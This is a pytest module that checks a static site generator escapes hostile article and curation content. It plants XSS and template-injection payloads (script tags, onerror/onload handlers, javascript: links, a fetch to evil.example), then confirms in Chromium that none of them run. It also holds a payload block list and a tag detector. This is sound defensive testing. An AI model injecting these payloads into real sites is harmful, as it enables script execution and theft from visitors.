"""An article full of script payloads builds into a site where none of them runs.

The site is built once for the module by the real pipeline (`dossier build --strict`). One test
greps the built files for the raw payloads (no browser needed); the browser tests load every
page in Chromium and search the site, and watch for dialogs, console errors, page errors and
requests to anywhere but the local server.
"""

from __future__ import annotations

import html
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from devkit.browser import opened_page, search_results, serve
from generator.cli import main
from tests.conftest import ROOT, needs_chromium

MARK = "pwned"  # every payload calls alert/fetch with this word: it must never run
HOSTILE = f"""---
title: "</title><script>alert('{MARK}-title')</script> {{{{ 7*7 }}}} Talks"
deck: "<img src=x onerror=alert('{MARK}-deck')> [deck](javascript:alert('{MARK}'))"
author: "Lena <b onmouseover=alert('{MARK}')>Hart</b>"
publisher: "{{% raw %}}<iframe src=javascript:alert('{MARK}')></iframe>"
url: https://example.org/news?id=1&x=(2)
published: 2024-05-02
---

Anna Berg said "<script>alert('{MARK}-quote')</script> we are not done" on Monday in Oslo, Norway.

## <img src=x onerror=alert('{MARK}-heading')>

Caption: Tomas Reyes waves in Oslo. <svg onload=alert('{MARK}-caption')>
Credit: <img src=x onerror=alert('{MARK}')>/AFP via Getty Images

Tomas Reyes, the envoy of Spain, clicked [here](javascript:alert('{MARK}-link')) and
<a href="javascript:alert('{MARK}')">there</a> {{: onclick="alert('{MARK}-attr')" }}

---

{{{{ config }}}} {{% for x in range(3) %}}{{{{ x }}}}{{% endfor %}} [^1] <style>body{{display:none}}</style>

[^1]: <script>fetch('https://evil.example/{MARK}')</script>

Reyes said: "<img src=https://evil.example/{MARK}.png>" and left for Madrid.
"""
# A second article, so that a curation rule can split Tomas Reyes in two.
SECOND = """---
title: Second talks
published: 2024-05-03
---

Tomas Reyes said "we will meet again" in Madrid.
"""
SEARCH_RESULTS = "#dossier-search-ui .pagefind-ui__results"

# Names given by the curation file: Material's search wrote a page's tags into its results as
# HTML, so these ran once per search (red-team item 2).
CURATION = f"""rename:
  - id: anna-berg
    name: "Anna <img src=x onerror=alert('{MARK}-rename')> Berg"
    new_id: anna-berg-renamed
split:
  - id: tomas-reyes
    new_id: tomas-reyes-madrid
    name: "Tomas <svg onload=alert('{MARK}-split')> Reyes"
    articles: [2024-05-03-second]
"""
RAW_PAYLOADS = [
    "<script>alert(",
    "<script>fetch(",
    "<img src=x onerror",
    "<img src=https://evil",
    "<svg onload",
    "<iframe",
    "<b onmouseover",
    '<a href="javascript:',
    "<style>body",
]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(ROOT / "templates", root / "templates")
    shutil.copytree(
        ROOT / "content" / "pages", root / "content" / "pages"
    )  # CSS, JS, graph library
    articles = root / "content" / "articles"
    articles.mkdir(parents=True)
    (articles / "2024-05-02-hostile.md").write_text(HOSTILE, encoding="utf-8")
    (articles / "2024-05-03-second.md").write_text(SECOND, encoding="utf-8")
    (root / "content" / "curation.yml").write_text(CURATION, encoding="utf-8")
    assert main(["--root", str(root), "build", "--strict"]) == 0
    return root / "site"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_script = tag == "script"
        for name, value in attrs:
            value = (value or "").strip()
            url = name in ("href", "src", "action", "formaction", "data", "srcdoc")
            elsewhere = MARK in value and not value.startswith("#")  # toc anchors are fine
            scheme = re.match(r"(javascript|vbscript|data):", value, re.I)
            if name.startswith("on") or (url and (elsewhere or scheme)):
                self.bad.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "svg", "img", "style") and MARK in str(attrs):
            self.bad.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.in_script and MARK in data:
            self.bad.append(f"<script>{data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False


def test_no_payload_reaches_the_site_unescaped(hostile_site: Path) -> None:
    files = [p for p in hostile_site.rglob("*") if p.suffix in (".html", ".xml", ".json")]
    article = hostile_site / "articles" / "2024-05-02-hostile" / "index.html"
    assert article in files
    for path in files:
        text = path.read_text(encoding="utf-8")
        for payload in RAW_PAYLOADS:
            assert payload not in text, f"{path.relative_to(hostile_site)}: {payload!r}"
        if path.suffix == ".html":
            tags = _Tags()
            tags.feed(text)
            assert not tags.bad, f"{path.relative_to(hostile_site)}: {tags.bad}"
    page = article.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(" in page  # shown as text, not dropped
    assert "{{ 7*7 }}" in page and "49 Talks" not in page
    hrefs = [html.unescape(h) for h in re.findall(r'href="(https://example[^"]*)"', page)]
    assert hrefs == ["https://example.org/news?id=1&x=(2)"]


def _refreshes(page: Path) -> bool:
    """Whether the built `page` only sends the browser on to another (a meta refresh)."""
    return 'http-equiv="refresh"' in page.read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def served(hostile_site: Path) -> Iterator[str]:
    with serve(hostile_site) as url:
        yield url


class Watch:
    """Everything a page did that a payload could have caused."""

    def __init__(self, page: Any, base: str) -> None:
        self.events: list[str] = []
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda exc: self.events.append(f"page error: {exc}"))
        page.on("console", self._console)
        page.on("request", lambda r: self._request(r.url, base))
        page.on("response", self._response)

    def _dialog(self, dialog: Any) -> None:
        self.events.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _response(self, response: Any) -> None:
        if response.status >= 400:
            self.events.append(f"{response.status}: {response.url}")

    def _console(self, message: Any) -> None:
        if message.text.startswith("Failed to load resource"):
            return  # reported with its address by _response
        if message.type == "error" or MARK in message.text:
            self.events.append(f"console {message.type}: {message.text}")

    def _request(self, url: str, base: str) -> None:
        if not url.startswith((base, "data:", "blob:", "about:")):
            self.events.append(f"request elsewhere: {url}")


@pytest.mark.browser
@needs_chromium
def test_no_payload_runs_in_chromium(hostile_site: Path, served: str, browser: Any) -> None:
    pages = sorted(
        str(p.relative_to(hostile_site).parent) for p in hostile_site.rglob("index.html")
    )
    assert "articles/2024-05-02-hostile" in pages
    with opened_page(browser) as page:
        watch = Watch(page, served)
        for path in pages:
            url = served if path == "." else f"{served}{path}/"
            page.goto(url, wait_until="load")
            if _refreshes(hostile_site / path / "index.html"):  # a renamed person's old address
                page.wait_for_url(lambda landed, url=url: landed != url)
            page.mouse.move(5, 5)
            page.mouse.move(300, 300)  # hover over the page: mouseover payloads
            page.wait_for_timeout(50)
        page.goto(f"{served}articles/2024-05-02-hostile/", wait_until="load")
        heading = page.inner_text("h1")
        page.wait_for_timeout(300)
    assert watch.events == []
    assert f"<script>alert('{MARK}-title')</script> {{{{ 7*7 }}}} Talks" in heading


@pytest.mark.browser
@needs_chromium
def test_searching_for_the_payloads_runs_nothing(
    hostile_site: Path, served: str, browser: Any
) -> None:
    with opened_page(browser) as page:
        watch = Watch(page, served)
        page.goto(served, wait_until="load")
        results = []
        for query in ("talks", "onerror", "tomas"):
            assert search_results(page, query, timeout_ms=20_000)
            page.wait_for_timeout(300)
            results.append(page.inner_text(SEARCH_RESULTS))
    assert watch.events == []
    assert f"<script>alert('{MARK}-title')</script>" in results[0]  # shown as text
    assert f"<svg onload=alert('{MARK}-caption')>" in results[1]


@pytest.mark.browser
@needs_chromium
def test_searching_for_names_set_by_curation_runs_nothing(
    hostile_site: Path, served: str, browser: Any
) -> None:
    people = {p.parent.name for p in (hostile_site / "people").glob("*/index.html")}
    assert {"tomas-reyes", "tomas-reyes-madrid"} <= people  # the split took place
    with opened_page(browser) as page:
        watch = Watch(page, served)
        page.goto(served, wait_until="load")
        results = []
        for query in ("berg", "reyes"):
            assert search_results(page, query, timeout_ms=20_000)
            page.wait_for_timeout(300)
            results.append(page.inner_text(SEARCH_RESULTS))
    assert watch.events == []
    assert f"Anna <img src=x onerror=alert('{MARK}-rename')> Berg" in results[0]  # as text
    assert f"Tomas <svg onload=alert('{MARK}-split')> Reyes" in results[1]
